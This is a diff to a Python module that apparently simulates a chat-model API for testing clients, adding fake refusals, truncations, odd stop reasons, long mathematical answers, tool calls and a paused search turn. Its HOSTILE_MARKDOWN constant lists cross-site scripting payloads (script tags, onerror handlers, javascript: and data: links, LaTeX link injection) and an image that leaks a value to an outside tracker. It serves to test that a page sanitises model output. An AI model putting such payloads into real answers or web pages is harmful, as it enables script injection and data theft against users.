@@ -6,15 +6,38 @@ answer that the request would have had.
 
 from __future__ import annotations
 
-from collections.abc import Iterable, Mapping, Sequence
+import dataclasses
+from collections.abc import Callable, Iterable, Mapping, Sequence
+from functools import cache
 from typing import Literal
 
-from ._delivery import Answer, Behaviour, Exchange, deliver, deliver_events, stream_head
-from ._errors import MESSAGE_OF_STATUS, APIError, error_envelope
-from ._exchange import JSON, Chunk, HangUp, Head, Pause, Steps, body_steps, encode_json
-from ._ids import new_id
-from ._stream import encode_event, message_events
-from ._tokens import count_tokens
+from ._composer import search_result
+from ._exchange import (
+    JSON,
+    MESSAGE_OF_STATUS,
+    APIError,
+    Chunk,
+    HangUp,
+    Head,
+    Pause,
+    Steps,
+    body_steps,
+    count_tokens,
+    encode_json,
+    error_envelope,
+    new_id,
+    split_tokens,
+)
+from ._stream import (
+    Answer,
+    Behaviour,
+    Exchange,
+    deliver,
+    deliver_events,
+    encode_event,
+    message_events,
+    stream_head,
+)
 
 Ending = Literal["chunk", "close", "reset", "eof"]
 
@@ -218,3 +241,234 @@ def with_text_deltas(events: Iterable[JSON], deltas: Sequence[str]) -> Iterable[
             for text in pending:
                 yield {**event, "delta": {"type": "text_delta", "text": text}}
             pending = None
+
+
+LONG_ANSWER_BYTES = 100_000
+
+HOSTILE_MARKDOWN = r"""# A hostile answer
+
+If anything here runs, the page that shows it is not safe. Each run would set `window.pwned`.
+
+<script>window.pwned = "script"</script>
+<img src=x onerror="window.pwned = 'onerror'">
+<svg onload="window.pwned = 'svg'"><circle r="9"/></svg>
+<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
+<iframe src="javascript:parent.pwned = 'iframe'"></iframe>
+<details open ontoggle="window.pwned = 'toggle'"><summary>details</summary></details>
+<a href="javascript:window.pwned = 'link'">raw link</a>
+<style>body { display: none }</style>
+<form action="javascript:window.pwned = 'form'"><button>form</button></form>
+<meta http-equiv="refresh" content="0;url=javascript:window.pwned='meta'">
+<object data="javascript:window.pwned = 'object'"></object>
+<math><mtext><img src=x onerror="window.pwned = 'math'"></mtext></math>
+<video><source onerror="window.pwned = 'video'"></video>
+<body onload="window.pwned = 'body'">
+<input autofocus onfocus="window.pwned = 'focus'">
+
+[a link](javascript:window.pwned='markdown-link') ·
+[tabbed](java&#x09;script:window.pwned='entity-link') ·
+[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9J2RhdGEnPC9zY3JpcHQ+) ·
+[vb](vbscript:window.pwned) · <javascript:window.pwned='autolink'>
+
+![an image that calls home](https://tracker.invalid/pixel.png?secret=42)
+![onerror](x"onerror="window.pwned='image-title')
+
+$\href{javascript:window.pwned='math-link'}{x^2}$ and $\class{" onclick="window.pwned='class'}{y}$
+
+```html
+<script>window.pwned = "code, which is only shown"</script>
+```
+
+| a | b |
+|---|---|
+| <img src=x onerror="window.pwned='cell'"> | `</td><script>window.pwned='tick'</script>` |
+
+The last line is ordinary text.
+"""
+
+_LONG_SECTION = r"""## {number}. Sums of powers, case $k = {k}$
+
+Write $S_{{{k}}}(n) = \sum_{{i=1}}^{{n}} i^{{{k}}}$. Faulhaber's formula expresses it through the Bernoulli
+numbers $B_j$:
+
+$$S_{{{k}}}(n) = \frac{{1}}{{{k_plus}}}
+\sum_{{j=0}}^{{{k}}} \binom{{{k_plus}}}{{j}} B_j^{{+}} \, n^{{{k_plus}-j}}$$
+
+For large $n$ the integral $\int_0^n x^{{{k}}}\,dx = \frac{{n^{{{k_plus}}}}}{{{k_plus}}}$ dominates, and the
+relative error falls like $\mathcal{{O}}(1/n)$.
+
+| $n$ | $S_{{{k}}}(n)$ | $n^{{{k_plus}}}/{k_plus}$ | ratio |
+|----:|----:|----:|----:|
+{rows}
+
+```python
+def power_sum(n: int, k: int = {k}) -> int:
+    # Exact for every n: Python's integers do not overflow.
+    return sum(i**k for i in range(1, n + 1))
+```
+
+- The leading term is $\frac{{n^{{{k_plus}}}}}{{{k_plus}}}$, the next one $\frac{{n^{{{k}}}}}{{2}}$.
+- With $x = \frac{{1}}{{n}}$ the ratio tends to $1 + \frac{{{k_plus}}}{{2}}\,x$ as $x \to 0$.
+
+"""
+
+
+@cache
+def long_answer() -> str:
+    """About 100 kB of Markdown with much mathematics."""
+    parts = ["# Sums of powers, at length\n\n"]
+    size = 0
+    while size < LONG_ANSWER_BYTES:
+        number = len(parts)
+        parts.append(_long_section(number, k=1 + number % 7))
+        size += len(parts[-1])
+    return "".join(parts) + "That was the last section."
+
+
+def _long_section(number: int, k: int) -> str:
+    rows = []
+    for n in range(number, number + 5):
+        exact, estimate = sum(i**k for i in range(1, n + 1)), n ** (k + 1) / (k + 1)
+        rows.append(f"| {n} | {exact} | {estimate:.2f} | {exact / estimate:.4f} |")
+    return _LONG_SECTION.format(number=number, k=k, k_plus=k + 1, rows="\n".join(rows))
+
+
+MULTILINGUAL = (
+    "Grüße aus Zürich, 東京, Αθήνα und القاهرة: café, naïve, smörgåsbord, ½ ≤ √2 ≈ 1.414. "
+    "Emoji: 🧪 🚀 👩‍🔬 🏳️‍🌈 🇯🇵. Combining: é = e\u0301. Line separators: a\u2028b\u0085c."
+)
+
+
+LONG_ANSWER_DELTAS = 2000
+REFUSAL = {
+    "type": "refusal",
+    "category": "cyber",
+    "explanation": "This is what a refusal looks like; the simulator was told to refuse.",
+}
+
+
+def with_content(message: JSON, content: list[JSON], **fields: object) -> JSON:
+    """The message with other content, its output counted anew."""
+    spoken = sum(count_tokens(block.get("text", "") + block.get("thinking", "")) for block in content)
+    details = message["usage"].get("output_tokens_details")
+    usage = {**message["usage"], "output_tokens": spoken}
+    if details is not None:
+        usage["output_tokens"] += details.get("thinking_tokens", 0)
+    return {**message, "content": content, "usage": usage, **fields}
+
+
+def with_text(message: JSON, text: str, **fields: object) -> JSON:
+    """The message with its thinking, if any, and this text instead of the rest."""
+    kept = [block for block in message["content"] if block["type"] == "thinking"]
+    return with_content(message, [*kept, {"type": "text", "text": text}], **fields)
+
+
+def text_of_message(message: JSON) -> str:
+    """The message's text blocks, joined."""
+    return "".join(block["text"] for block in message["content"] if block["type"] == "text")
+
+
+def _half(message: JSON) -> str:
+    tokens = split_tokens(text_of_message(message))
+    return "".join(tokens[: max(1, len(tokens) // 2)])
+
+
+def refuse(message: JSON) -> JSON:
+    """Refuse before any output."""
+    return with_content(message, [], stop_reason="refusal", stop_details=REFUSAL)
+
+
+def refuse_half_way(message: JSON) -> JSON:
+    """Refuse after half of the text."""
+    return with_text(message, _half(message), stop_reason="refusal", stop_details=REFUSAL)
+
+
+def cut_by_max_tokens(message: JSON) -> JSON:
+    """Stop half-way for want of tokens."""
+    return with_text(message, _half(message), stop_reason="max_tokens")
+
+
+def fill_context(message: JSON) -> JSON:
+    """Stop half-way for want of context."""
+    return with_text(message, _half(message), stop_reason="model_context_window_exceeded")
+
+
+def stop_strangely(message: JSON) -> JSON:
+    """Stop for a reason that nobody knows."""
+    return {**message, "stop_reason": "full_moon"}
+
+
+def say_nothing(message: JSON) -> JSON:
+    """Answer with no content at all."""
+    return with_content(message, [])
+
+
+def only_think(message: JSON) -> JSON:
+    """Spend all of `max_tokens` on thinking."""
+    thinking = [block for block in message["content"] if block["type"] == "thinking"]
+    thinking = thinking or [{"type": "thinking", "thinking": "", "signature": "c2ltdWxhdGVk"}]
+    return with_content(message, thinking, stop_reason="max_tokens")
+
+
+def attack(message: JSON) -> JSON:
+    """Say what an attacker would."""
+    return with_text(message, HOSTILE_MARKDOWN)
+
+
+def ramble(exchange: Exchange) -> Steps:
+    """Say very much, in deltas as large as a fast model's."""
+    answer = exchange.answer()
+    text = long_answer()
+    answer = dataclasses.replace(answer, message=with_text(answer.message, text))
+    if not exchange.request.wants_stream:
+        return deliver(exchange, answer)
+    size = -(-len(text) // LONG_ANSWER_DELTAS)
+    deltas = [text[start : start + size] for start in range(0, len(text), size)]
+    return deliver_events(exchange, answer, with_text_deltas(message_events(answer.message), deltas))
+
+
+def pause_turn(exchange: Exchange) -> Steps:
+    """Pause in a server-side turn; go on, first with the result of the search, when the client sends the turn back."""
+    history = exchange.request.fields.get("messages") or [{}]
+    if history[-1].get("role") == "assistant":
+        answer = exchange.answer()
+        results = [search_result(call, "a search that takes long") for call in _pending_searches(history[-1])]
+        message = {**answer.message, "content": [*results, *answer.message["content"]]}
+        return deliver(exchange, dataclasses.replace(answer, message=message))
+    call = {
+        "type": "server_tool_use",
+        "id": new_id("srvtoolu"),
+        "name": "web_search",
+        "input": {"query": "a search that takes long"},
+    }
+    text = {"type": "text", "text": "I am still searching."}
+    return deliver(exchange, Answer(message=build_message(exchange, [text, call], "pause_turn")))
+
+
+def _pending_searches(message: JSON) -> list[str]:
+    blocks = message["content"] if isinstance(message["content"], list) else []
+    answered = {block.get("tool_use_id") for block in blocks}
+    return [
+        block["id"]
+        for block in blocks
+        if block.get("type") == "server_tool_use" and block["id"] not in answered
+    ]
+
+
+def tool_call(change: Callable[[Iterable[JSON]], Iterable[JSON]]) -> Behaviour:
+    """Call the request's first tool, or one named `tide_table`, in changed events."""
+
+    def behave(exchange: Exchange) -> Steps:
+        tools = exchange.request.fields.get("tools") or [{}]
+        call = {
+            "type": "tool_use",
+            "id": new_id("toolu"),
+            "name": tools[0].get("name", "tide_table"),
+            "input": {"port": "Brest", "day": 3},
+        }
+        answer = Answer(message=build_message(exchange, [call], "tool_use"))
+        if not exchange.request.wants_stream:
+            return deliver(exchange, answer)
+        return deliver_events(exchange, answer, change(message_events(answer.message)))
+
+    return behave
